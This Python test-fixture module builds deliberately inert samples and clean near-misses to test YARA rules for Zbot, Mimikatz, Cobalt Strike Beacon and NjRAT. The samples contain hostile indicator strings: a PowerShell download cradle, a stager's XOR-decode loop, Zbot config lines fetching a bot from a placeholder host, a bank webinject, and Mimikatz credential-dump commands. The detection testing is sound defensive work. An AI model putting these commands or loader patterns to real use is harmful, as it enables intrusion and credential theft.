"""Inert samples and near-misses for signatures/rules/windows.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, a, pe, split, text, w


def zbot() -> dict[str, bytes]:
    return {
        "zbot-pe": pe(
            *a("C:\\WINDOWS\\system32\\sdra64.exe", "lowsec\\local.ds", "lowsec\\user.ds", "_AVIRA_2109"),
            *w("userinit.exe,"),
        )
    }


def mimikatz() -> dict[str, bytes]:
    return {
        "mimikatz-pe": pe(
            *w(
                "mimikatz",
                "gentilkiwi",
                "Benjamin DELPY",
                "A La Vie, A L'Amour",
                "sekurlsa",
                "lsadump",
                "privilege::debug",
                "sekurlsa::logonpasswords",
            )
        )
    }


def mimikatz_ps() -> dict[str, bytes]:
    return {
        "invoke-mimikatz-ps1": text(
            f"exit  # {INERT_NOTE}",
            "<#",
            split("function Invoke-", "Mimikatz {"),
            "    # Invoke-ReflectivePEInjection would be defined here",
            split("    $PEBytes64 = 'TVq", "QAAMAAAAEAAAA'"),
            split("    $PEBytes32 = 'TVq", "QAAMAAAAEAAAA'"),
            "    # sekurlsa::logonpasswords",
            "}",
            "#>",
        )
    }


def beacon_config() -> dict[str, bytes]:
    settings = bytes.fromhex(
        "0001 0001 0002 0000"  # BeaconType: HTTP
        "0002 0001 0002 0050"  # Port: 80
        "0003 0002 0004 0000ea60"  # SleepTime: 60000 ms
        "0004 0002 0004 00100000"  # MaxGetSize
        "0005 0001 0002 0000"  # Jitter
    )
    block = settings + bytes(4096 - len(settings))
    return {
        "beacon-config-plain": block,
        "beacon-config-x69": bytes(b ^ 0x69 for b in block),
        "beacon-config-x2e": bytes(b ^ 0x2E for b in block),
    }


def beacon_strings() -> dict[str, bytes]:
    return {
        "beacon-dll": pe(
            *a(
                "beacon.dll",
                "ReflectiveLoader",
                "%s as %s\\%s: %d",
                "could not spawn %s: %d",
                "Could not connect to pipe (%s): %d",
                "IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:%u/')",
                "%%IMPORT%%",
                "%02d/%02d/%02d %02d:%02d:%02d",
            )
        )
    }


def beacon_stager() -> dict[str, bytes]:
    return {
        "stager-ps1": text(
            f"exit  # {INERT_NOTE}",
            "<#",
            "Set-StrictMode -Version 2",
            split("function ", "func_get_proc_address { }"),
            split("function ", "func_get_delegate_type { <# ReflectedDelegate #> }"),
            "[Byte[]]$var_code = [System.Convert]::FromBase64String('AAAA')",
            "for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }",
            "# VirtualAlloc",
            "#>",
        )
    }


def njrat() -> dict[str, bytes]:
    return {
        "njrat-pe": pe(
            *a("mscoree.dll", "_CorExeMain"),
            *w(
                "|'|'|",
                'netsh firewall add allowedprogram "',
                'netsh firewall delete allowedprogram "',
                'cmd.exe /c ping 0 -n 2 & del "',
                "SEE_MASK_NOZONECHECKS",
                "Execute ERROR",
                "Download ERROR",
                "Executed As ",
            ),
        )
    }


def zbot_webinjects() -> dict[str, bytes]:
    return {
        "zbot-webinjects-txt": text(
            f"; {INERT_NOTE}",
            split("set_", "url https://bank.example.org/login* GP"),
            split("data_", "before"),
            '<input type="password"',
            split("data_", "end"),
            split("data_", "inject"),
            "<!-- inert -->",
            split("data_", "end"),
            split("data_", "after"),
            split("data_", "end"),
        )
    }


def zbot_builder_config() -> dict[str, bytes]:
    return {
        "zbot-config-txt": text(
            f";{INERT_NOTE}",
            split("entry ", '"StaticConfig"'),
            '  botnet "btn1"',
            "  timer_config 60 1",
            f'  url_config "http://{HOST}/config.bin"',
            "end",
            split("entry ", '"DynamicConfig"'),
            f'  url_loader "http://{HOST}/bot.exe"',
            '  file_webinjects "webinjects.txt"',
            "end",
        )
    }


def zbot_dropper() -> dict[str, bytes]:
    return {
        "zbot-dropper": pe(
            *w("Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Userinit"),
            *a("\\lowsec\\", "sdra64.exe", INERT_NOTE),
            *a("SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile"),
        )
    }


def mimikatz_log() -> dict[str, bytes]:
    return {
        "mimikatz-output-txt": text(
            split("mimi", "katz # sekurlsa::logonpasswords"),
            "",
            split("Authentication Id", " : 0 ; 999 (00000000:000003e7)"),
            "Session           : UndefinedLogonType from 0",
            "User Name         : INERT$",
            "\tmsv :\t",
            split("\t [00000003] Primary", ""),
            split("\t * NTLM ", "    : 00000000000000000000000000000000"),
        )
    }


def artifact_kit() -> dict[str, bytes]:
    return {
        "artifact-kit-exe": pe(
            *a("%c%c%c%c%c%c%c%c%cMSSE-%d-server", "CreateNamedPipeA", "ConnectNamedPipe", INERT_NOTE)
        )
    }


SAMPLES: Builders = {
    "Zbot_WebInject_Config": zbot_webinjects,
    "Zbot_Builder_Config": zbot_builder_config,
    "Zbot_Dropper_2x": zbot_dropper,
    "Mimikatz_Output_Log": mimikatz_log,
    "CobaltStrike_ArtifactKit": artifact_kit,
    "Zbot_Zeus_Trojan": zbot,
    "Mimikatz_Binary": mimikatz,
    "Mimikatz_PowerShell_Loader": mimikatz_ps,
    "CobaltStrike_Beacon_Config": beacon_config,
    "CobaltStrike_Beacon_Strings": beacon_strings,
    "CobaltStrike_PowerShell_Stager": beacon_stager,
    "NjRAT_Binary": njrat,
}

# ---------------------------------------------------------------- near-misses: clean look-alikes


def nm_winlogon_tool() -> dict[str, bytes]:
    # A logon-policy tool touching Userinit and the firewall profile; one file name of Zbot's in a block list.
    return {
        "logon-policy-tool": pe(
            *w("Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Userinit", "userinit.exe"),
            *a("\\lowsec\\", "local.ds", "video.dll"),
            *a("SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile"),
        )
    }


def nm_template_config() -> dict[str, bytes]:
    return {
        "site-template-txt": text(
            "set_url_prefix https://example.org/",
            "data_before_hook = header",
            "data_after_hook = footer",
            'entry "StaticPages"',
            '  url_config "https://example.org/config.json"',
            "end",
        )
    }


def nm_admin_tool() -> dict[str, bytes]:
    return {"credential-audit-tool": pe(*w("privilege::debug", "sekurlsa", "lsadump", "Benjamin Franklin", "audit"))}


def nm_ps_module() -> dict[str, bytes]:
    return {
        "ps-module": text(
            "function Invoke-Inventory {",
            "    $PEBytes64 = Get-Content .\\tool.b64",
            "    # Invoke-ReflectivePEInjection is not used here",
            "}",
        )
    }


def nm_tlv_binary() -> dict[str, bytes]:
    # A type-length-value settings blob of another format (big-endian ids, different layout).
    return {"tlv-settings": bytes.fromhex("000100020001000000020004000000500003000100020000") + bytes(256)}


def nm_dll_loader() -> dict[str, bytes]:
    return {"reflective-dll": pe(*a("plugin.dll", "ReflectiveLoader", "could not open %s: %d", "%02d/%02d/%02d"))}


def nm_ps_script() -> dict[str, bytes]:
    return {
        "ps-script": text(
            "function Get-ProcAddress { }",
            "$bytes = [System.Convert]::FromBase64String($data)",
            "$x = $a -bxor 35",
            "# VirtualAlloc is documented here",
        )
    }


def nm_dotnet_firewall() -> dict[str, bytes]:
    return {
        "dotnet-firewall-tool": pe(
            *a("mscoree.dll", "_CorExeMain"),
            *w("netsh firewall add allowedprogram", "Execute ERROR", "|", "SEE_MASK_NOZONECHECKS"),
        )
    }


def nm_mimikatz_doc() -> dict[str, bytes]:
    return {
        "mimikatz-howto-txt": text(
            "Detecting credential theft: look for sekurlsa::logonpasswords in command lines.",
            "Authentication Id values identify logon sessions.",
            "* NTLM : hashes should never be logged.",
        )
    }


def nm_pipe_server() -> dict[str, bytes]:
    return {"pipe-server": pe(*a("\\\\.\\pipe\\app-%d-server", "CreateNamedPipeA", "ConnectNamedPipe"))}


NEARMISS: Builders = {
    "Zbot_Zeus_Trojan": nm_winlogon_tool,
    "Zbot_Dropper_2x": nm_winlogon_tool,
    "Zbot_WebInject_Config": nm_template_config,
    "Zbot_Builder_Config": nm_template_config,
    "Mimikatz_Binary": nm_admin_tool,
    "Mimikatz_PowerShell_Loader": nm_ps_module,
    "Mimikatz_Output_Log": nm_mimikatz_doc,
    "CobaltStrike_Beacon_Config": nm_tlv_binary,
    "CobaltStrike_Beacon_Strings": nm_dll_loader,
    "CobaltStrike_PowerShell_Stager": nm_ps_script,
    "CobaltStrike_ArtifactKit": nm_pipe_server,
    "NjRAT_Binary": nm_dotnet_firewall,
}
